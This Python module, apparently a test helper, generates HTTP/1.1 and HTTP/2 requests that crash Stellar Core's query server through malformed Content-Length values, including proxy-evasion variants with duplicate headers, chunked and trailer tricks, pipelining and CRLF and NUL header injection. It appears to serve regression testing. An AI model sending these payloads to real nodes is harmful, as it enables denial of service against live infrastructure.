"""Queries that end Stellar Core up to 25.2.2: a Content-Length that is no int of 32 bits, in every spelling we know.

Its query server reads the length by C++'s stoi, and nothing catches what that throws, until 26.0.0
(lib/httpthreaded/request_parser.cpp). What ends it is the first header with this very name, in capitals.
"""

from tests.http2_frames import query_headers, write_opening, write_request

BODY = b"key=AAAA"
NO_INTS = (
    b"x",
    b"",
    b" ",
    b"\t",
    b"+",
    b"-",
    b"x8",
    b"'8'",
    b"%38",
    b"\xa08",
    b"\xd9\xa8",
    b"NaN",
    b"inf",
    b";8",
    b",8",
)
"""What stoi finds no number in. A word that begins with one, such as 8x, is 8 to it."""
TOO_LARGE = (
    2**31,
    2**31 + 1,
    2**32,
    2**32 + 8,
    2**63,
    2**63 - 1,
    2**64,
    2**64 + 8,
    99_999_999_999,
    10**30,
    -(2**31) - 1,
)
LENGTHS = (*NO_INTS, *(b"%d" % one for one in TOO_LARGE), b"+2147483648", b"0002147483648", b"9" * 400)
_LINE = b"POST /getledgerentryraw HTTP/1.1\r\n"


def write_deadly(length: bytes) -> bytes:
    """Write the plain form of it, which ends Core where nothing is before it."""
    return _LINE + b"Host: a\r\nContent-Length: " + length + b"\r\nConnection: close\r\n\r\n" + BODY


def write_deadly_forms(length: bytes) -> list[bytes]:
    """Write the forms in which somebody might try to get it past a proxy."""
    deadly, plain = b"Content-Length: " + length, b"Content-Length: 8"
    chunked, chunks = b"Transfer-Encoding: chunked", b"8\r\n" + BODY + b"\r\n0\r\n\r\n"
    heads = [
        *(
            (deadly,),
            (plain, deadly),
            (deadly, plain),
            (deadly, deadly),
            (b"X: y\r\n " + deadly,),
            (b"X: y\r\n\t" + length,),
        ),
        *((b"Content-Length:\r\n " + length,), (b"Content-Length:" + length,), (b"content-length: " + length,)),
        *((b"Content_Length: " + length,), (b"Content-Length : " + length,), (b"Content-Length: 8, " + length,)),
        *((b"Expect: 100-continue", deadly), (b"Connection: close, content-length", deadly), (b"TE: trailers", deadly)),
        *((b"Upgrade: h2c", deadly), (b"X: y\r" + deadly,), (b"X: y\n" + deadly,), (b"X: y\x00" + deadly,)),
    ]
    forms = [b"\r\n".join((_LINE + b"Host: a", *head, b"", BODY)) for head in heads]
    forms += [b"\r\n".join((_LINE + b"Host: a", *head, b"", chunks)) for head in ((chunked, deadly), (deadly, chunked))]
    trailer = b"8\r\n" + BODY + b"\r\n0\r\n" + deadly + b"\r\n\r\n"
    forms.append(b"\r\n".join((_LINE + b"Host: a", chunked, b"Trailer: Content-Length", b"", trailer)))
    second = write_deadly(length)
    forms.append(_LINE + b"Host: a\r\n" + plain + b"\r\n\r\n" + BODY + second)
    forms.append(_LINE.replace(b"/1.1", b"/1.0") + deadly + b"\r\n\r\n" + BODY)
    forms.append(second.replace(b"/getledgerentryraw", b"/x"))
    return forms


def write_deadly_streams(length: bytes, authority: bytes = b"a") -> list[bytes]:
    """Write the forms of it in HTTP/2, each for a connection of its own."""
    headers, named = query_headers(authority=authority), (b"content-length", length)
    spelled = (b"Content-Length", length)
    requests = [
        *(write_request(1, [*headers, one], body) for one in (named, spelled) for body in (None, BODY, b"")),
        write_request(1, [*headers, named, (b"content-length", b"8")], BODY),
        write_request(1, [*headers, (b"content-length", b"8"), named], BODY),
        write_request(1, headers, BODY, trailers=[named]),
        write_request(1, [*headers, (b"x", b"y\r\nContent-Length: " + length)], BODY),
        write_request(1, [*headers, (b"x\r\nContent-Length: " + length + b"\r\ny", b"z")], BODY),
        write_request(1, [(b":path", b"/ HTTP/1.1\r\nContent-Length: " + length), *headers[:2], headers[3]], BODY),
    ]
    return [write_opening() + one for one in requests]
